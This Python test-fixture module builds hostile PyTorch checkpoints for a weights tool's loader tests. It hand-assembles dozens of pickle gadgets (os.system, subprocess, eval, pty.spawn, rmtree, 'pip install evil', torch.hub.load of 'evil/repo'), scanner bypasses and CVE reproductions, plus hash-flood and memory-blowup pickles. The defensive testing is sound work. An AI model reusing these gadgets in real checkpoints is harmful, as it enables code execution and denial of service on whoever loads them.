"""Hostile PyTorch checkpoints: pickle gadgets, scanner bypasses, torch CVEs, and pickles that hang or blow up.

Pickles are assembled opcode by opcode (`tensor`, `state_dict`, `G`, `S` ...) so no torch is
needed and any name or structure can be written. Every gadget would act on the case folder's
``CANARY`` if it ran: Python's own pickle runs them (tests/formats/torch/test_hostile.py shows it).
The builders here are shared with that test module.
"""

from __future__ import annotations

import builtins
import collections
import os
import pickle
import pickletools
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path

from .cases import Case

MAGIC = 0x1950A86A20F9469CFC6C
ISSUE_GADGETS = "issue 13 (pickle gadgets refused on main: kept refused)"
ISSUE_HANGS = "issue 13 item 2 (hangs)"
ISSUE_MEMORY = "issue 13 item 3 (memory)"
ISSUE_ERRORS = "issue 13 item 6 (unclean errors)"


# ---------------------------------------------------------------- a small pickle assembler


def S(text: str) -> bytes:
    """BINUNICODE ``text``."""
    data = text.encode()
    return b"X" + len(data).to_bytes(4, "little") + data


def G(module: str, name: str) -> bytes:
    """GLOBAL ``module.name``."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def I(value: int) -> bytes:  # noqa: E743  # the opcode family's own name
    """An int, as pickle protocol 2 writes it."""
    return pickle.dumps(value, protocol=2)[2:-1]


def T(values: list[int] | tuple[int, ...]) -> bytes:
    """MARK, the ints, TUPLE."""
    return b"(" + b"".join(I(v) for v in values) + b"t"


def plain(value: object) -> bytes:
    """Any plain value's opcodes (no PROTO, no STOP, no memo)."""
    return pickletools.optimize(pickle.dumps(value, protocol=2))[2:-1]


def storage(key: str, numel: int, kind: str = "FloatStorage") -> bytes:
    """The persistent id torch.save writes for a storage: ('storage', torch.<kind>, key, 'cpu', numel)."""
    return b"(" + S("storage") + G("torch", kind) + S(key) + S("cpu") + I(numel) + b"tQ"


def tensor(key: str, numel: int, shape, stride, offset: int = 0, *, shape_ops: bytes | None = None) -> bytes:
    """``torch._utils._rebuild_tensor_v2(storage, offset, shape, stride, False, OrderedDict())``."""
    return (G("torch._utils", "_rebuild_tensor_v2") + b"(" + storage(key, numel) + I(offset)
            + (shape_ops if shape_ops is not None else T(shape)) + T(stride) + b"\x89"
            + G("collections", "OrderedDict") + b")R" + b"tR")


def state_dict(entries: dict[str, bytes], proto: int = 2) -> bytes:
    """A pickled ``OrderedDict`` of the given ``name: value opcodes``, as torch.save writes one."""
    body = b"".join(S(name) + value for name, value in entries.items())
    return bytes([0x80, proto]) + G("collections", "OrderedDict") + b")R(" + body + b"u."


def list_dag(depth: int) -> bytes:
    """A list whose every level holds the level below twice: ``depth`` objects, 2**depth leaves when walked.

    Each level goes to the memo and off the stack, so the opcodes leave one list: the top.
    """
    data = bytearray(b"]q\x000")
    for level in range(1, depth + 1):
        data += b"(h%ch%clq%c0" % (level - 1, level - 1, level)
    return bytes(data + b"h%c" % depth)


def tuple_dag(depth: int) -> bytes:
    """The same with tuples (hashable: a dictionary key whose hash walks 2**depth leaves)."""
    data = bytearray(b")q\x000")
    for level in range(1, depth + 1):
        data += b"h%ch%c\x86q%c0" % (level - 1, level - 1, level)
    return bytes(data + b"h%c" % depth)


# ---------------------------------------------------------------- containers


def write_zip(path: Path, data_pkl: bytes, extra: dict[str, bytes] | None = None, folder: str = "archive",
              compression: int = zipfile.ZIP_STORED) -> Path:
    """A torch.save-shaped zip holding ``data_pkl`` and the ``extra`` members."""
    with zipfile.ZipFile(path, "w", compression=compression) as archive:
        archive.writestr(f"{folder}/data.pkl", data_pkl)
        for name, data in (extra or {}).items():
            archive.writestr(f"{folder}/{name}", data)
        archive.writestr(f"{folder}/version", "3\n")
    return path


def legacy_bytes(object_pickle: bytes, *, keys: bytes | None = None, sys_info: bytes | None = None,
                 before_object: bytes = b"", trailer: bytes = b"") -> bytes:
    """A pre-1.6 torch.save stream: magic number, protocol, sys_info, the object, the storage keys."""
    header = pickle.dumps(MAGIC, protocol=2) + pickle.dumps(1001, protocol=2)
    info = sys_info or pickle.dumps({"protocol_version": 1001, "little_endian": True,
                                     "type_sizes": {"short": 2, "int": 4, "long": 8}}, protocol=2)
    return header + info + before_object + object_pickle + (keys or pickle.dumps([], protocol=2)) + trailer


def script_zip(path: Path, data_pkl: bytes, constants_pkl: bytes, code: str = "") -> Path:
    """A TorchScript-shaped archive (constants.pkl and code/ beside data.pkl); its code must never run."""
    return write_zip(path, data_pkl, {"constants.pkl": constants_pkl, "code/__torch__/m.py": code.encode()},
                     folder=path.stem)


# ---------------------------------------------------------------- gadgets


class Calls:
    """Pickles as ``target(*args)``: the classic pickle payload."""

    def __init__(self, target, *args):
        self.target, self.args = target, args

    def __reduce__(self):
        return self.target, self.args

    def __call__(self, *args):  # pickle wants the callable of a REDUCE to look callable
        raise AssertionError("never called")


def reduce_payload(module: str, name: str, *args) -> bytes:
    """GLOBAL module.name, args tuple, REDUCE — written by hand so any name can be used."""
    return b"\x80\x02" + G(module, name) + pickle.dumps(args, protocol=2)[2:-1] + b"R."


def payloads(canary: Path) -> dict[str, bytes]:
    """Every gadget by name; each would create ``canary`` if a pickle interpreter ran it."""
    touch = f"touch {canary}"
    create = f"open({str(canary)!r}, 'w')"
    code = f"import os; os.system({touch!r})"
    return {
        "os.system": pickle.dumps(Calls(os.system, touch), protocol=2),
        "subprocess.Popen": pickle.dumps(Calls(subprocess.Popen, ["touch", str(canary)]), protocol=2),
        "subprocess.check_call": pickle.dumps(Calls(subprocess.check_call, ["touch", str(canary)]), protocol=2),
        "builtins.eval": pickle.dumps(Calls(builtins.eval, create), protocol=2),
        "builtins.exec": pickle.dumps(Calls(builtins.exec, create), protocol=2),
        "builtins.getattr": pickle.dumps(Calls(Calls(getattr, Calls(__import__, "os"), "system"), touch), protocol=2),
        "builtins.__import__": pickle.dumps(Calls(__import__, "os"), protocol=2),
        "py2 __builtin__.eval": reduce_payload("__builtin__", "eval", create),
        "nt.system": reduce_payload("nt", "system", touch),
        "torch.hub.load": reduce_payload("torch.hub", "load", "evil/repo", "model"),
        "torch.load": reduce_payload("torch", "load", str(canary)),
        "torch.storage._load_from_bytes": reduce_payload("torch.storage", "_load_from_bytes", b"x"),
        "torch.jit.load": reduce_payload("torch.jit", "load", str(canary)),
        "numpy runstring": reduce_payload("numpy.testing._private.utils", "runstring", create, {}),
        "pip.main": reduce_payload("pip", "main", ["install", "evil"]),
        "pydoc.pipepager": reduce_payload("pydoc", "pipepager", "x", touch),
        "runpy._run_code": reduce_payload("runpy", "_run_code", code, {}),
        "timeit.timeit": reduce_payload("timeit", "timeit", code),
        "operator.attrgetter": reduce_payload("operator", "attrgetter", "system"),
        "_operator.attrgetter": reduce_payload("_operator", "attrgetter", "system"),
        "importlib.import_module": reduce_payload("importlib", "import_module", "os"),
        "marshal.loads": reduce_payload("marshal", "loads", b"\xe3"),
        "pkgutil.resolve_name": reduce_payload("pkgutil", "resolve_name", "os:system"),
        "code.InteractiveInterpreter": reduce_payload("code", "InteractiveInterpreter"),
        "cProfile.run": reduce_payload("cProfile", "run", code),
        "profile.run": reduce_payload("profile", "run", code),
        "pty.spawn": reduce_payload("pty", "spawn", ["touch", str(canary)]),
        "idlelib.pyshell": reduce_payload("idlelib.pyshell", "ModifiedInterpreter", None),
        "asyncio.unix_events subprocess": reduce_payload("asyncio.unix_events", "_UnixSubprocessTransport"),
        "ctypes.CDLL": reduce_payload("ctypes", "CDLL", "libc.so.6"),
        "shutil.rmtree": reduce_payload("shutil", "rmtree", str(canary)),
        "torch.utils.bottleneck": reduce_payload("torch.utils.bottleneck.__main__", "run_cprofile", code, {}),
        "torch._inductor codecache": reduce_payload("torch._inductor.codecache", "compile_file", str(canary), "x",
                                                    []),
        "defaultdict factory": reduce_payload("collections", "defaultdict", Calls(os.system, touch)),
        "payload inside an OrderedDict": pickle.dumps(
            collections.OrderedDict(w=Calls(os.system, touch)), protocol=2),
        "payload as a rebuild argument": reduce_payload("torch._utils", "_rebuild_tensor_v2",
                                                        Calls(os.system, touch), 0, (1,), (1,)),
        "_rebuild_from_type_v2 wrapping eval": reduce_payload("torch._tensor", "_rebuild_from_type_v2",
                                                              eval, None, (create,), None),
        "copyreg._reconstructor of os": b"\x80\x02ccopy_reg\n_reconstructor\ncposix\nsystem\n"
        b"c__builtin__\nobject\nN\x87R.",
        "INST opcode": b"(S'" + touch.encode() + b"'\nios\nsystem\n.",
        "INST of an allowed class": b"(ccollections\nOrderedDict\nS'x'\ni__builtin__\nobject\n.",
        "OBJ opcode": b"(ccollections\nOrderedDict\no.",
        "OBJ on posix.system": b"(cposix\nsystem\nS'" + touch.encode() + b"'\no.",
        "NEWOBJ of posix": b"\x80\x02cposix\nsystem\n" + plain((touch,)) + b"\x81.",
        "NEWOBJ_EX of subprocess": b"\x80\x04csubprocess\nPopen\n" + plain((["touch", str(canary)],))
        + b"}\x92.",
        "STACK_GLOBAL with dotted name": b"\x80\x04\x8c\x0bcollections\x8c\x14OrderedDict.__init__\x93.",
        "STACK_GLOBAL dotted to os": b"\x80\x04\x8c\x0bcollections\x8c\x12OrderedDict.os.sys\x93.",
        "STACK_GLOBAL of posix": b"\x80\x04\x8c\x05posix\x8c\x06system\x93" + pickle.dumps((touch,), 4)[2:-1]
        + b"R.",
        "STACK_GLOBAL names from the memo": b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94h\x00h\x01\x93"
        + plain((touch,)) + b"R.",
        "memo confusion: PUT then MEMOIZE": b"\x80\x04\x8c\x02osq\x00\x8c\x06systemq\x01"
        b"\x8c\x0ctorch._utils\x94\x8c\x12_rebuild_tensor_v2\x94h\x00h\x01\x93" + plain((touch,)) + b"R.",
        "EXT1 opcode": b"\x80\x02\x82\x01.",
        "EXT2 opcode": b"\x80\x02\x83\x01\x00.",
        "EXT4 opcode": b"\x80\x02\x84\x01\x00\x00\x00.",
        "memo: REDUCE on a memoized dict": b"\x80\x02}q\x00h\x00)R.",
        "memo: reuse of an allowed callable on a gadget": b"\x80\x02ccollections\nOrderedDict\nq\x00h\x00"
        + pickle.dumps((Calls(os.system, touch),), protocol=2)[2:-1] + b"R.",
        "memo: BUILD on a memoized global": b"\x80\x02ccollections\nOrderedDict\nq\x00h\x00}b.",
        "BUILD on a global (numpy.prod attributes)": b"\x80\x02cnumpy\nprod\nN}X\x01\x00\x00\x00aX\x02\x00\x00\x00os"
        b"s\x86b.",
        "BUILD __setstate__ on an object": b"\x80\x02cmy.module\nThing\n)\x81}X\x0c\x00\x00\x00__setstate__"
        b"cposix\nsystem\nsb.",
        "SETITEMS on a list (CVE-2026-24747)": b"\x80\x02](K\x01K\x02u.",
        "SETITEM on a tensor record (CVE-2026-24747)": b"\x80\x02" + tensor("0", 1, (1,), (1,)) + b"K\x01K\x02s.",
        "memo: unknown index": b"\x80\x02h\x09h\x09R.",
        "persistent id naming a module": b"\x80\x02(X\x06\x00\x00\x00modulecposix\nsystem\nNNtQ.",
    }


def _canary(folder: Path) -> Path:
    return folder / "CANARY"


def _zip_gadget(name: str, compression: int = zipfile.ZIP_STORED) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        return write_zip(folder / "gadget.pt", payloads(_canary(folder))[name], compression=compression)
    return build


def _legacy_gadget(where: str, name: str = "os.system") -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        evil = payloads(_canary(folder))[name]
        plain_object = pickle.dumps({"epoch": 1}, protocol=2)
        data = {
            "sys_info": lambda: legacy_bytes(plain_object, sys_info=evil),
            "keys": lambda: legacy_bytes(plain_object, keys=evil),
            "before object": lambda: legacy_bytes(plain_object, before_object=evil),
            "object": lambda: legacy_bytes(evil),
            "trailer": lambda: legacy_bytes(plain_object, trailer=evil),
        }[where]()
        path = folder / "legacy.pt"
        path.write_bytes(data)
        return path
    return build


def _script_gadget(where: str) -> Callable[[Path], Path]:
    """CVE-2025-32434: a TorchScript archive, which torch.load(weights_only=True) handed to torch.jit.load."""
    def build(folder: Path) -> Path:
        evil = payloads(_canary(folder))["os.system"]
        fine = state_dict({"w": tensor("0", 1, (1,), (1,))})
        data, constants = (evil, b"\x80\x02)."), (fine, evil)
        chosen = data if where == "data.pkl" else constants
        code = f"import os\nos.system('touch {_canary(folder)}')\n"
        return script_zip(folder / "script.pt", chosen[0], chosen[1], code)
    return build


GADGET_CASES = [Case(f"torch/gadget-{name.replace(' ', '-')}", "picklescan / modelscan / fickling bypasses and "
                     "classic pickle payloads (refused on main; kept refused)", _zip_gadget(name))
                for name in payloads(Path("CANARY"))]
GADGET_CASES += [
    Case("torch/gadget-deflated-data-pkl", ISSUE_GADGETS, _zip_gadget("os.system", zipfile.ZIP_DEFLATED)),
    *(Case(f"torch/legacy-gadget-in-{where.replace(' ', '-')}", "CVE-2025-32434 (weights_only bypass through "
           "the legacy format)", _legacy_gadget(where)) for where in ("sys_info", "keys", "before object", "object",
                                                                      "trailer")),
    Case("torch/legacy-gadget-runpy", "CVE-2025-32434 / picklescan bypass",
         _legacy_gadget("object", "runpy._run_code")),
    Case("torch/torchscript-gadget-in-data-pkl", "CVE-2025-32434 (TorchScript archives)", _script_gadget("data.pkl")),
    Case("torch/torchscript-gadget-in-constants", "CVE-2025-32434 (TorchScript archives)",
         _script_gadget("constants.pkl")),
]


# ---------------------------------------------------------------- structures that hang or blow up


def _zip_of(name: str, data_pkl: bytes | Callable[[], bytes], members: dict[str, bytes] | None = None,
            compression: int = zipfile.ZIP_DEFLATED) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        data = data_pkl() if callable(data_pkl) else data_pkl
        return write_zip(folder / name, data, {f"data/{k}": v for k, v in (members or {}).items()},
                         compression=compression)
    return build


_FLOOD = 120_000  # keys i*(2**61-1): all hash to 0 (issue 13: 1.5 MB, over 60 s on main)


def _flood_keys() -> list[bytes]:
    return [I(i * (2**61 - 1)) for i in range(_FLOOD)]


def _flood_dict() -> bytes:
    return b"\x80\x02}(" + b"".join(key + b"N" for key in _flood_keys()) + b"u."


def _flood_dict_opcode() -> bytes:
    return b"\x80\x02(" + b"".join(key + b"N" for key in _flood_keys()) + b"d."


def _flood_ordered_dict() -> bytes:
    pairs = b"".join(key + b"N\x86" for key in _flood_keys())
    return b"\x80\x02" + G("collections", "OrderedDict") + b"(](" + pairs + b"etR."


def _flood_frozenset() -> bytes:
    return b"\x80\x04(" + b"".join(_flood_keys()) + b"\x91."


def _flood_set_additems() -> bytes:
    return b"\x80\x04\x8f(" + b"".join(_flood_keys()) + b"\x90."


def _flood_set_builder() -> bytes:
    return b"\x80\x02" + G("builtins", "set") + b"(](" + b"".join(_flood_keys()) + b"etR."


def _flood_setitem_one_by_one() -> bytes:
    return b"\x80\x02}" + b"".join(key + b"Ns" for key in _flood_keys()) + b"."


def _tuple_dag_key() -> bytes:
    return b"\x80\x02}" + tuple_dag(120) + b"Ns."  # {dag: None}: hashing walks 2**120 leaves


def _list_dag_value() -> bytes:
    return state_dict({"w": tensor("0", 1, (1,), (1,)), "meta": list_dag(60)})


def _sparse_layout_dag() -> bytes:
    call = (G("torch._utils", "_rebuild_sparse_tensor") + b"(" + list_dag(60) + b"(K\x01K\x02" + T((1,)) + b"t"
            + b"tR")
    return state_dict({"w": call})


def _device_dag() -> bytes:
    call = (G("torch._utils", "_rebuild_device_tensor_from_numpy") + b"(N" + G("torch", "float32") + list_dag(60)
            + b"\x89tR")
    return state_dict({"w": call})


def _qtensor_scale_dag() -> bytes:
    qparams = b"(" + G("torch", "per_tensor_affine") + list_dag(60) + b"K\x00t"
    call = (G("torch._utils", "_rebuild_qtensor") + b"(" + storage("0", 1, "QInt8Storage") + b"K\x00" + T((1,))
            + T((1,)) + qparams + b"\x89tR")
    return state_dict({"w": call})


def _numpy_dtype_dag() -> bytes:
    return state_dict({"dtype": G("numpy", "dtype") + b"(" + list_dag(60) + b"tR"})


def _stride_zero(exponent: int) -> bytes:
    return state_dict({"w": tensor("0", 1, (2**exponent,), (0,))})


def _overlapping_2d() -> bytes:
    return state_dict({"w": tensor("0", 2**16, (2**15, 2**15), (1, 1))})  # 2**30 elements over 2**16 floats


def _rank(rank: int) -> bytes:
    shape_ops = b"(" + b"K\x01" * rank + b"t"
    return state_dict({"w": tensor("0", 1, (), (1,) * min(rank, 65), shape_ops=shape_ops)})


def _huge_dim() -> bytes:
    return state_dict({"w": tensor("0", 1, (2**200,), (0,))})


def _none_pop(count: int) -> bytes:
    return b"\x80\x02" + b"N0" * count + b"N."


def _memo_flood(count: int) -> bytes:
    return b"\x80\x02N" + b"".join(b"r" + i.to_bytes(4, "little") for i in range(count)) + b"."


def _deep_lists(depth: int) -> bytes:
    return b"\x80\x02" + b"]" * depth + b"a" * (depth - 1) + b"."


FLOAT4 = bytes(4)
STRUCTURE_CASES = [
    Case("torch/hash-flood-setitems", ISSUE_HANGS, _zip_of("flood.pt", _flood_dict), match="hash_collisions"),
    Case("torch/hash-flood-dict-opcode", ISSUE_HANGS, _zip_of("flood.pt", _flood_dict_opcode),
         match="hash_collisions"),
    Case("torch/hash-flood-setitem-one-by-one", ISSUE_HANGS, _zip_of("flood.pt", _flood_setitem_one_by_one),
         match="hash_collisions"),
    Case("torch/hash-flood-ordered-dict", ISSUE_HANGS, _zip_of("flood.pt", _flood_ordered_dict),
         match="hash_collisions"),
    Case("torch/hash-flood-frozenset", ISSUE_HANGS, _zip_of("flood.pt", _flood_frozenset), match="hash_collisions"),
    Case("torch/hash-flood-additems", ISSUE_HANGS, _zip_of("flood.pt", _flood_set_additems), match="hash_collisions"),
    Case("torch/hash-flood-set-builder", ISSUE_HANGS, _zip_of("flood.pt", _flood_set_builder),
         match="hash_collisions"),
    Case("torch/tuple-dag-depth-120-as-key", ISSUE_HANGS, _zip_of("dag.pt", _tuple_dag_key), match="object_size"),
    Case("torch/list-dag-depth-60-as-value", ISSUE_HANGS, _zip_of("dag.pt", _list_dag_value, {"0": FLOAT4}),
         match="object_size"),
    Case("torch/list-dag-as-sparse-layout", ISSUE_HANGS, _zip_of("dag.pt", _sparse_layout_dag), expect="ok"),
    Case("torch/list-dag-as-device", ISSUE_HANGS, _zip_of("dag.pt", _device_dag), expect="ok"),
    Case("torch/list-dag-as-qtensor-scale", ISSUE_HANGS, _zip_of("dag.pt", _qtensor_scale_dag, {"0": b"\0"}),
         expect="ok"),
    Case("torch/list-dag-as-numpy-dtype", ISSUE_HANGS, _zip_of("dag.pt", _numpy_dtype_dag), match="numpy dtype"),
    Case("torch/deeply-nested-lists", ISSUE_HANGS, _zip_of("deep.pt", _deep_lists(100_000)), match="nesting"),
    Case("torch/opcodes-over-the-limit", ISSUE_HANGS, _zip_of("ops.pt", _none_pop(200_000)), match="pickle_opcodes",
         env={"WEIGHTKIT_MAX_PICKLE_OPCODES": "100000"}),
    Case("torch/memo-over-the-limit", ISSUE_HANGS, _zip_of("memo.pt", _memo_flood(2_000)), match="pickle_memo",
         env={"WEIGHTKIT_MAX_PICKLE_MEMO": "1000"}),
    Case("torch/stride-0-2gib", ISSUE_MEMORY, _zip_of("expand.pt", _stride_zero(29), {"0": FLOAT4}),
         match="stride 0", commands=("split", "merge")),
    Case("torch/stride-0-64gib", ISSUE_MEMORY, _zip_of("expand.pt", _stride_zero(34), {"0": FLOAT4}),
         match="stride 0", commands=("split", "merge")),
    Case("torch/stride-0-inspect", ISSUE_MEMORY, _zip_of("expand.pt", _stride_zero(34), {"0": FLOAT4}),
         expect="ok", commands=("inspect", "inspect-tensors", "inspect-json")),
    Case("torch/overlapping-view-4gib", ISSUE_MEMORY, _zip_of("overlap.pt", _overlapping_2d, {"0": bytes(4 * 2**16)}),
         match="stride 0", commands=("split", "merge")),
    Case("torch/dimension-2-to-the-200", ISSUE_ERRORS, _zip_of("huge.pt", _huge_dim, {"0": FLOAT4})),
    Case("torch/rank-65", ISSUE_ERRORS, _zip_of("rank.pt", _rank(65), {"0": FLOAT4}),
         match="rank 65: more than the 64 dimensions numpy supports"),
    Case("torch/rank-million", ISSUE_ERRORS, _zip_of("rank.pt", _rank(1_000_000), {"0": FLOAT4}),
         match="more than the 64 dimensions"),
]

CASES: list[Case] = GADGET_CASES + STRUCTURE_CASES
